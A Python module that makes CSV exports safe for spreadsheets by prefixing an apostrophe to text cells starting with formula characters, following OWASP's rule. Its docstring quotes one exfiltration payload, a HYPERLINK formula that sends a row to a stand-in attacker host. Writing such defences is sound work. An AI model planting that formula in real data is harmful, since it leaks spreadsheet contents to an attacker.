"""CSV for spreadsheets: every CSV cibwatch writes goes through `csv_writer`.

Handles, ids, post texts and reasons come from collected data or from users,
and a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab
or carriage return before one) as a formula: `=HYPERLINK("http://evil.example/
?c="&A2,"open")` as a handle would send the row to whoever made it. OWASP's
rule, applied to every text cell: such a cell gets a leading apostrophe, which
spreadsheets show as text and do not display. Numbers (ints, floats,
Decimals) are not text and are written as they are, so a negative number
stays a number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

#: A text cell starting with one of these would be run as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def defuse(cell: object) -> object:
    """The cell as a spreadsheet may safely open it: text starting a formula gets a `'`."""
    if isinstance(cell, str) and cell.startswith(FORMULA_START):
        return "'" + cell
    return cell


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeWriter:
    """`csv.writer` whose rows have every text cell defused."""

    def __init__(self, handle: _Writable) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, cells: Iterable[object]) -> None:
        """Write one row, defusing its text cells."""
        self._writer.writerow([defuse(cell) for cell in cells])


def csv_writer(handle: _Writable) -> SafeWriter:
    """A CSV writer on `handle` (a file or StringIO) that defuses formula cells."""
    return SafeWriter(handle)
